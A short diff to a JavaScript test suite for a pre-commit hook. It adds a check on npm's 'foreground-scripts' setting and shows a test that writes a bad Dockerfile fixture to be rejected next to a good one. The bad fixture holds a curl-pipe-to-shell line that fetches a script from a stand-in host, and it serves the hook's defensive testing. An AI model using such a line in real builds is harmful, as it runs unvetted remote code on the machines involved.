@@ -318,6 +318,11 @@ describe('the hook for pre-commit', () => {
     expect([yes.filter((path) => !picks(path)), no.filter(picks)]).toEqual([[], []]);
   });
 
+  test('finds the tarball: npm prints its name alone, without what scripts print', () => {
+    const setting = execFileSync('npm', ['config', 'get', 'foreground-scripts'], { cwd: ROOT, encoding: 'utf8' });
+    expect(setting.trim()).toBe('false');
+  });
+
   test('a bad build file stops the commit, a good one does not', async () => {
     writeFileSync(bench.path('bad.dockerfile'), 'FROM debian:12\nRUN curl https://x.example/i.sh | sh\n');
     writeFileSync(bench.path('good.dockerfile'), 'FROM debian:12\nUSER 10001\nCMD ["true"]\n');
